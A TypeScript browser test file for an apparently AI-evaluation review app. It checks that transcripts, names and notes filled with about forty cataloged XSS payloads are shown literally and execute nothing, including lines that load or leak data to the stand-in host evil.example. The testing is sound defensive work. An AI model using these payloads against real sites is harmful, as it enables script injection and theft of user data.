import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { BundleRecord } from '@/lib/bundle/record'
import { caseLink, modelLink, runLink, transcriptLink } from '@/lib/links/links'
import { transcriptId } from '@/lib/transcripts/transcript-id'
import { openBrowser, openDesk } from '@/tests/support/browser'
import { aCase, aFinding, agentCalls, agentSays, aJudgement, aModel, anAnchor, aReview, aRun, aSuite, aTag, customerSays, toolAnswers } from '@/tests/support/builders'
import { loadRecords } from '@/tests/support/load'
import { startServer, type RunningServer } from '@/tests/support/server'

// Text of transcripts, names, tags and notes is written by models and strangers. It must be seen as it was written and do nothing,
// with the content policy and, so that the policy hides no hole, without it.

const X = 'window.__xss=1'
const EVIL = 'https://evil.example'

/** Payloads by the catalogue's numbers; each runs, or calls a foreign host, where text is taken for markup, a link or a style. */
const PAYLOADS: Record<string, string> = {
  X01: `<script>${X}</script>`,
  X02: `</script><script>${X}</script>`,
  X03: `<!--<script>--> ]]> -->`,
  X04: `<img src=x onerror=${X}>`,
  X05: `<svg onload=${X}><svg/onload=${X}//`,
  X06: `<svg><script href="data:text/javascript,${X}"/></svg>`,
  X07: `<svg><animate onbegin=${X} attributeName=x dur=1s>`,
  X08: `<math><mtext></form><form><mglyph><style></math><img src onerror=${X}>`,
  X09: `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
  X10: `<xmp><p title="</xmp><img src=x onerror=${X}>"><textarea><title><plaintext>`,
  X11: `<iframe srcdoc="<script>parent.${X}</script>">`,
  X12: `<iframe src="javascript:parent.${X}">`,
  X13: `<details open ontoggle=${X}>`,
  X14: `<video><source onerror=${X}></video><audio src onerror=${X}>`,
  X15: `<input autofocus onfocus=${X}><select autofocus onfocus=${X}>`,
  X16: `<a href="javascript:${X}">c</a>`,
  X18: `<a href="data:text/html,<script>${X}</script>">d</a>`,
  X19: `<form action="javascript:${X}"><button>OK</button></form>`,
  X20: `<object data="javascript:${X}"></object><embed src="javascript:${X}">`,
  X21: `<base href="${EVIL}/">`,
  X22: `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  X23: `<link rel=stylesheet href=${EVIL}/x.css><link rel=prefetch href=${EVIL}/y>`,
  X24: `<style>@import "${EVIL}/x";*{display:none}</style>`,
  X25: `<div style="position:fixed;inset:0;background:url(${EVIL}/b)">`,
  X26: `<img src="${EVIL}/p.png?d=1" srcset="${EVIL}/q 1x">`,
  X28: `<form id=document><input name=cookie></form><img name=currentScript><a id=__next_f>`,
  X29: `x}*{background:red}/* </style><script>${X}</script>`,
  X31: `[c](javascript:${X})`,
  X33: `![a](${EVIL}/x.png?q=SECRET)`,
  X35: `<javascript:${X}> <${EVIL}> www.evil.example`,
  X38: `\`\`\`js onload=${X}\n<img src=x onerror=${X}>\n\`\`\``,
  X41: `{{constructor.constructor('${X}')()}} \${${X}} <%= ${X} %>`,
  X42: `{"$$typeof":"Symbol(react.element)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${X}>"}}}`,
  X43: `"onmouseover="${X}" '><img src=x onerror=${X}>`,
  X44: `</title><script>${X}</script></option></textarea>`,
  X49: `<template shadowrootmode=open><img src=x onerror=${X}></template>`,
  X50: `<x is=y onpointerover=${X} tabindex=1 onfocus=${X} autofocus>`,
  X58: `&lt;script&gt; &amp;amp; &#x3c;script&#x3e;${X}`,
}
const ALL = Object.entries(PAYLOADS).map(([number, text]) => `${number} ${text}`).join('\n')
const FORBIDDEN = 'script:not([nonce]), iframe, object, embed, base, math, audio, video, meta[http-equiv=refresh], [srcdoc]'

function hostileBundle(): BundleRecord[] {
  const suite = `s ${PAYLOADS.X04}`
  const name = (what: string): string => `${what} ${PAYLOADS.X02}${PAYLOADS.X04}${PAYLOADS.X43}`
  const messages = [
    { role: 'system', content: ALL },
    customerSays(ALL),
    agentSays(ALL),
    agentCalls({ id: name('call'), name: name('tool'), arguments: { [name('key')]: ALL, list: Object.values(PAYLOADS), deep: { __html: PAYLOADS.X04, $$typeof: 'x' } }, effect: 'write' }, { id: 'k2', name: 'raw', arguments: ALL }),
    toolAnswers(name('call'), name('tool'), { [name('key')]: ALL, text: Object.values(PAYLOADS) }),
    { role: name('role'), content: ALL },
    ...Object.values(PAYLOADS).map((payload, index) => (index % 2 === 0 ? customerSays(payload) : agentSays(payload))),
  ]
  return [
    aSuite({ id: suite, name: name('suite'), description: ALL, clusters: [{ id: name('c'), title: name('cluster'), intents: [name('intent')] }] }),
    aCase({ suite, id: name('case'), title: name('title'), intent: name('intent'), brief: ALL, policy: ALL, expected: { [name('k')]: ALL }, forbidden_actions: [name('f')], required_actions: [name('r')], confirm_before: [name('b')] }),
    aModel({ id: name('model'), name: name('model'), slug: 'hostile', family: name('family'), vendor: name('vendor') }),
    aRun({ id: name('run'), suite, model: name('model'), notes: ALL, settings: { [name('s')]: ALL } }),
    { type: 'transcript', run: name('run'), case: name('case'), ended: 'error', messages, error: ALL },
    aJudgement({ pass: name('pass'), run: name('run'), case: name('case'), judge: name('judge'), rationale: ALL, resolved: false, unsafe_actions: [{ action: name('a'), message: 3 }], evidence: [{ message: 1, quote: PAYLOADS.X04 ?? '', note: ALL }], checks: [{ name: name('check'), kind: name('kind'), passed: false, counted: true, rationale: ALL }] }),
    aTag({ id: name('tag'), name: name('tag'), description: ALL }),
    aFinding({ id: 'hostile-finding', run: name('run'), case: name('case'), tag: name('tag'), note: ALL, correct_behaviour: ALL, author: name('author'), anchors: [anAnchor({ message: 1, part: 'content', quote: `X04 ${PAYLOADS.X04}` })] }),
    aReview({ run: name('run'), case: name('case'), reviewer: name('reviewer'), note: ALL }),
  ]
}

const records = hostileBundle()
const run = `run ${PAYLOADS.X02}${PAYLOADS.X04}${PAYLOADS.X43}`
const caseId = run.replace('run', 'case')
const suite = `s ${PAYLOADS.X04}`
const PLACES = [
  transcriptLink(transcriptId(run, caseId)), runLink(run), caseLink(suite, caseId), modelLink('hostile', suite), `/eval?suite=${encodeURIComponent(suite)}`, '/runs', `/cases?suite=${encodeURIComponent(suite)}`, '/transcripts', '/findings', '/tags', '/review', '/import', '/settings/audit',
  `/runs?q=${encodeURIComponent(ALL.slice(0, 1500))}`, `/findings?q=${encodeURIComponent(PAYLOADS.X04 ?? '')}&tag=${encodeURIComponent(PAYLOADS.X02 ?? '')}`, `/sign-in?next=${encodeURIComponent(`javascript:${X}`)}&error=${encodeURIComponent(PAYLOADS.X04 ?? '')}`,
]

describe.each([{ policy: 'on' }, { policy: 'off' }] as const)('hostile text, content policy $policy', ({ policy }) => {
  let browser: Browser
  let server: RunningServer
  beforeAll(async () => {
    browser = await openBrowser()
    server = await startServer()
    await loadRecords({ location: { kind: 'sqlite', file: server.databaseFile } }, records)
  })
  afterAll(async () => {
    await browser.close()
    await server.stop()
  })

  it.each(PLACES)('runs nothing and calls nobody on %s', async (place) => {
    const desk = await openDesk(browser, server, { ignorePolicy: policy === 'off' })
    desk.misdeeds.length = 0
    const answer = await desk.page.goto(place)
    expect(answer?.status()).toBe(200)
    await desk.page.evaluate(() => { for (const each of document.querySelectorAll('details')) each.open = true })
    for (const each of await desk.page.locator('main [tabindex], main summary').all()) await each.hover({ timeout: 500, force: true }).catch(() => undefined)
    await desk.page.waitForTimeout(300)
    expect(await desk.page.evaluate(() => Reflect.get(window, '__xss'))).toBeUndefined()
    expect(desk.misdeeds).toEqual([])
    expect(await desk.page.evaluate((selector) => [...document.querySelectorAll(`main :is(${selector})`)].map((each) => each.outerHTML.slice(0, 120)), FORBIDDEN)).toEqual([])
    expect(await desk.page.evaluate(() => [...document.querySelectorAll('a[href], form[action]')].map((each) => each.getAttribute('href') ?? each.getAttribute('action') ?? '').filter((target) => /^\s*(javascript|data|vbscript):/i.test(target)))).toEqual([])
    await desk.context.close()
  })

  it('shows every payload of a message literally', async () => {
    const desk = await openDesk(browser, server, { ignorePolicy: policy === 'off' })
    await desk.page.goto(PLACES[0] ?? '')
    const text = await desk.page.evaluate(() => document.querySelector('main')?.textContent ?? '')
    for (const [number, payload] of Object.entries(PAYLOADS)) expect(text.includes(payload), `${number} is not shown as it was written`).toBe(true)
    await desk.context.close()
  })
})
